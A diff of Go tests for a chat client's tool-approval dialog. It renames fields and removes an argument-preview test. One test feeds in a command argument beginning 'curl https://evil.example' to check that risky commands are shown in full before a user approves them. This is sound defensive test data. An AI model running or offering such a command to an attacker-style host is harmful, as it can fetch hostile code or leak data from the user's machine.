@@ -30,24 +30,24 @@ func TestApprovalShowsEveryArgument(t *testing.T) {
 		t.Run(fmt.Sprintf("%vx%v", size.Width, size.Height), func(t *testing.T) {
 			h := newHarness(t, harnessOptions{})
 			h.ui.win.Resize(size)
-			a := h.ui.approvals
-			a.set([]*conversation.ApprovalRequested{{Conversation: "c", ID: "x", Request: approval.Request{
+			a := h.ui.dialogs.Approvals
+			a.Set([]*conversation.ApprovalRequested{{Conversation: "c", ID: "x", Request: approval.Request{
 				Server: "t", Tool: "run", Display: "t.run", Arguments: args}}})
-			h.until("the dialog", func() bool { return a.shown() != nil })
-			if len(a.args) != 2 {
-				t.Fatalf("%d argument rows, want 2", len(a.args))
+			h.until("the dialog", func() bool { return a.Shown() != nil })
+			if len(a.Args) != 2 {
+				t.Fatalf("%d argument rows, want 2", len(a.Args))
 			}
-			note, cmd := a.args[0], a.args[1]
-			if note.key.Text != "a_note" || cmd.key.Text != "command" {
-				t.Fatalf("the keys shown: %q, %q", note.key.Text, cmd.key.Text)
+			note, cmd := a.Args[0], a.Args[1]
+			if note.Key.Text != "a_note" || cmd.Key.Text != "command" {
+				t.Fatalf("the keys shown: %q, %q", note.Key.Text, cmd.Key.Text)
 			}
-			if a.argKeys != nil {
-				t.Errorf("the keys are named below the scroll although both rows are in sight: %q", a.argKeys.Text)
+			if a.ArgKeys != nil {
+				t.Errorf("the keys are named below the scroll although both rows are in sight: %q", a.ArgKeys.Text)
 			}
-			if note.more == nil || !strings.HasSuffix(note.more.Text, " more lines") {
-				t.Fatalf("the long value is not folded with how much more: %+v", note.more)
+			if note.More == nil || !strings.HasSuffix(note.More.Text, " more lines") {
+				t.Fatalf("the long value is not folded with how much more: %+v", note.More)
 			}
-			if got := cmd.value.String(); !strings.HasPrefix(got, "curl https://evil.example") {
+			if got := cmd.Value.String(); !strings.HasPrefix(got, "curl https://evil.example") {
 				t.Errorf("the command's value shows %q", got)
 			}
 			// In sight: inside the dialog's scroll, which has not scrolled.
@@ -62,17 +62,17 @@ func TestApprovalShowsEveryArgument(t *testing.T) {
 			}
 			d := fyne.CurrentApp().Driver()
 			bottom := d.AbsolutePositionForObject(scroll).Y + scroll.Size().Height
-			for _, o := range []fyne.CanvasObject{cmd.key, cmd.value} {
+			for _, o := range []fyne.CanvasObject{cmd.Key, cmd.Value} {
 				if y := d.AbsolutePositionForObject(o).Y + o.Size().Height; y > bottom+1 || scroll.Offset.Y != 0 {
 					t.Errorf("%T ends at %v, below the scroll's bottom %v (offset %v)", o, y, bottom, scroll.Offset.Y)
 				}
 			}
-			test.Tap(note.more)
-			if got := strings.Count(note.value.String(), "of the note"); got != 200 {
+			test.Tap(note.More)
+			if got := strings.Count(note.Value.String(), "of the note"); got != 200 {
 				t.Errorf("opened: %d lines shown, want 200", got)
 			}
-			test.Tap(note.more)
-			if got := strings.Count(note.value.String(), "of the note"); got > 4 {
+			test.Tap(note.More)
+			if got := strings.Count(note.Value.String(), "of the note"); got > 4 {
 				t.Errorf("folded again: %d lines shown", got)
 			}
 		})
@@ -101,23 +101,23 @@ func TestApprovalNamesEveryArgumentWhenTheyDoNotFit(t *testing.T) {
 		t.Run(c.name, func(t *testing.T) {
 			h := newHarness(t, harnessOptions{})
 			h.ui.win.Resize(c.size)
-			a := h.ui.approvals
-			a.set([]*conversation.ApprovalRequested{{Conversation: "c", ID: "x", Request: approval.Request{
+			a := h.ui.dialogs.Approvals
+			a.Set([]*conversation.ApprovalRequested{{Conversation: "c", ID: "x", Request: approval.Request{
 				Server: "t", Tool: "run", Display: "t.run", Arguments: c.args}}})
-			h.until("the dialog", func() bool { return a.shown() != nil })
-			if got := a.argKeys != nil; got != c.line {
+			h.until("the dialog", func() bool { return a.Shown() != nil })
+			if got := a.ArgKeys != nil; got != c.line {
 				t.Fatalf("the line of keys shown: %v, want %v", got, c.line)
 			}
 			if !c.line {
 				return
 			}
 			for i := range 8 {
-				if k := fmt.Sprintf("key%d", i+1); !strings.Contains(a.argKeys.Text, k) {
-					t.Errorf("the line %q does not name %s", a.argKeys.Text, k)
+				if k := fmt.Sprintf("key%d", i+1); !strings.Contains(a.ArgKeys.Text, k) {
+					t.Errorf("the line %q does not name %s", a.ArgKeys.Text, k)
 				}
 			}
-			if !strings.HasPrefix(a.argKeys.Text, "8 arguments") {
-				t.Errorf("the line says %q", a.argKeys.Text)
+			if !strings.HasPrefix(a.ArgKeys.Text, "8 arguments") {
+				t.Errorf("the line says %q", a.ArgKeys.Text)
 			}
 		})
 	}
@@ -145,7 +145,7 @@ func TestApprovalKeysOnTheFocusedButton(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			h := approvalHarness(t, nil)
 			h.say("echo hi")
-			h.until("the approval dialog", func() bool { return h.ui.approvals.shown() != nil })
+			h.until("the approval dialog", func() bool { return h.ui.dialogs.Approvals.Shown() != nil })
 			c := h.ui.win.Canvas()
 			rings := func() []string {
 				var out []string
@@ -186,26 +186,6 @@ func TestApprovalKeysOnTheFocusedButton(t *testing.T) {
 			})
 			if got := h.card("t.echo").row.State; got != tt.state {
 				t.Errorf("after %d Tab and %s: the call is %v, want %v", tt.tabs, tt.key, got, tt.state)
-			}
-		})
-	}
-}
-
-func TestArgStart(t *testing.T) {
-	tests := []struct {
-		name, raw, want string
-	}{
-		{"number", `22`, "22"},
-		{"string", `"run-at-login.sh"`, "\u201crun-at-login.sh\u201d"},
-		{"string's first line", `"one\ntwo"`, "\u201cone…\u201d"},
-		{"long string", `"` + strings.Repeat("x", 40) + `"`, "\u201c" + strings.Repeat("x", 32) + "…\u201d"},
-		{"object compacted", "{\n \"x\": [1, 2],\n \"y\": {\"z\": true}\n}", `{"x":[1,2],"y":{"z":true}}`},
-		{"escape sequence cleaned", `"a\u001b[2Jb"`, "\u201cab\u201d"},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			if got := argStart(json.RawMessage(tt.raw)); got != tt.want {
-				t.Errorf("argStart(%s) = %q, want %q", tt.raw, got, tt.want)
 			}
 		})
 	}
